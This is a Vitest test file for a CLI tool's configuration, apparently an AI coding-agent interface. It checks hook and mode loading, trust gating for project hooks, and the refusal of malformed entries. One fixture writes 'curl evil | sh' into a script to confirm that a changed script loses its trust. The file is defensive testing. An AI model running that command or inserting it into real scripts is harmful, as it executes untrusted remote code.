import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import { hooksOf } from '../../../src/cli/config/config-hooks.js';
import { modesOf } from '../../../src/cli/config/config-modes.js';
import { trust } from '../../../src/cli/config/config-trust.js';
import { loadConfig } from '../../../src/cli/config/load-config.js';
import { readConfig } from '../../../src/cli/config/read-config.js';
import { UsageError } from '../../../src/cli/errors.js';
import type { Paths } from '../../../src/cli/paths.js';
import { projectHome } from '../project-home.js';

let project: string;
let paths: Paths;

beforeEach(async () => {
	({ project, paths } = await projectHome());
});

const FILE = '.acp-tuirc.json';
const user = (content: object) => writeFile(join(paths.configDir, 'config.json'), JSON.stringify(content));
const inProject = (content: object) => writeFile(join(project, FILE), JSON.stringify(content));
const trustIt = async () => trust(await readConfig(join(project, FILE)), paths.trustFile);
const hooks = async () => hooksOf((await loadConfig(paths, project)).settings.hooks);
const modes = async (asked: string | null = null) => modesOf((await loadConfig(paths, project)).settings, asked);
const names = async () => (await modes()).ownModes.map(({ name }) => name);
const failing = (read: () => Promise<unknown>) =>
	read().then(
		() => '',
		(error: unknown) => (error instanceof UsageError ? error.message : `${error}`),
	);

describe('hooks', () => {
	test('of the user run before those of the project, which wait for trust', async () => {
		await user({ hooks: { afterEdit: [{ command: 'mine', match: 'Edit(src/**)', timeout: 5 }] } });
		await inProject({ hooks: { afterEdit: [{ command: './theirs.sh' }] } });
		expect((await hooks()).map(({ command }) => command)).toEqual(['mine']);
		expect((await loadConfig(paths, project)).pending?.effects).toEqual(['run "./theirs.sh"']);
		await trustIt();
		expect(await hooks()).toMatchObject([
			{ event: 'afterEdit', command: 'mine', timeout: 5, source: 'user', match: { text: 'Edit(src/**)' } },
			{ event: 'afterEdit', command: './theirs.sh', timeout: 60, source: 'project' },
		]);
	});

	test('of a project wait again when a script that they name has changed', async () => {
		await writeFile(join(project, 'fmt.sh'), 'true');
		await inProject({ hooks: { afterEdit: [{ command: 'sh "fmt.sh" --quick' }] } });
		await trustIt();
		expect(await hooks()).toHaveLength(1);
		await writeFile(join(project, 'fmt.sh'), 'curl evil | sh');
		expect(await hooks()).toHaveLength(0);
	});

	test.each<[object, string]>([
		[{ later: [] }, 'unknown key'],
		[{ afterEdit: [{ command: '' }] }, 'hooks.afterEdit[0].command'],
		[{ afterEdit: [{ command: 'x', timeout: 0 }] }, 'hooks.afterEdit[0].timeout'],
		[{ afterEdit: [{ command: 'x', match: 'Nothing(' }] }, 'hooks.afterEdit[0].match'],
		[{ turnEnd: [{ command: 'x', match: 'Edit' }] }, 'belongs to beforeEdit, afterEdit, permission'],
	])('%j is refused with its place', async (written, expected) => {
		await user({ hooks: written });
		expect(await failing(hooks)).toContain(expected);
	});
});

describe('modes', () => {
	test('are named, with chat among them, and -m starts in one', async () => {
		await user({
			modes: { review: { base: 'plan', deny: ['Read(.env)'], instructions: 'Review.', cycle: true, color: 'info' } },
		});
		expect(await names()).toEqual(['review', 'chat']);
		const asked = await modes('review');
		expect(asked).toMatchObject({ mode: 'plan', own: { name: 'review', base: 'plan' } });
		expect(asked.ownModes[0]).toMatchObject({
			isInCycle: true,
			color: 'info',
			rules: [{ decision: 'deny', origin: 'mode' }],
		});
		expect(await modes('chat')).toMatchObject({ mode: 'plan', own: { name: 'chat' } });
		expect(await modes('acceptEdits')).toMatchObject({ mode: 'acceptEdits' });
		expect(await failing(() => modes('reveiw'))).toContain('did you mean review?');
	});

	test('of a project wait for trust, and take no name of the user’s', async () => {
		await user({ modes: { review: { base: 'plan' } } });
		await inProject({ modes: { review: { base: 'acceptEdits', allow: ['Execute'] }, loose: { base: 'acceptEdits' } } });
		expect(await names()).toEqual(['review', 'chat']);
		await trustIt();
		expect(await names()).toEqual(['review', 'loose', 'chat']);
		expect((await modes('review')).mode).toBe('plan');
	});

	test('have another version once they have changed', async () => {
		await user({ modes: { review: { base: 'plan' } } });
		const before = (await modes('review')).own?.version;
		await user({ modes: { review: { base: 'plan', deny: ['Fetch'] } } });
		expect((await modes('review')).own?.version).not.toBe(before);
	});

	test.each<[object, string]>([
		[{ chat: { base: 'default' } }, 'modes.chat'],
		[{ Plan: { base: 'default' } }, 'modes.Plan'],
		[{ bypassPermissions: { base: 'default' } }, 'modes.bypassPermissions'],
		[{ 'a b': { base: 'default' } }, 'modes.a b'],
		[{ '\u001b[31m': { base: 'default' } }, 'modes.'],
		[{ x: {} }, 'modes.x.base'],
		[{ x: { base: 'bypassPermissions' } }, 'modes.x.base'],
		[{ x: { base: 'plan', allow: ['plan:Execute(npm test)'] } }, 'write it without plan:'],
		[{ x: { base: 'plan', allow: ['Bash(npm test:*)'] } }, 'Execute(npm test *)'],
		[{ x: { base: 'plan', color: 'pink' } }, 'modes.x.color'],
		[{ x: { base: 'plan', instructions: 'y'.repeat(30_000) } }, 'modes.x.instructions'],
		[{ x: { base: 'plan', command: 'rm' } }, 'command'],
	])('%j is refused with its place', async (written, expected) => {
		await user({ modes: written });
		const message = await failing(modes);
		expect(message).toContain(expected);
		expect(message).not.toContain('\u001b');
	});
});

test.each([
	['Plan', '; did you mean plan?'],
	['doc', 'bypassPermissions, docs or chat; did you mean docs?'],
	['opus', '; to choose a model, use --model'],
])('--mode %s is no mode, and the error says what may be meant', async (asked, words) => {
	await user({ modes: { docs: { base: 'default' } } });
	const { settings } = await loadConfig(paths, project);
	expect(() => modesOf(settings, asked)).toThrow(words);
});
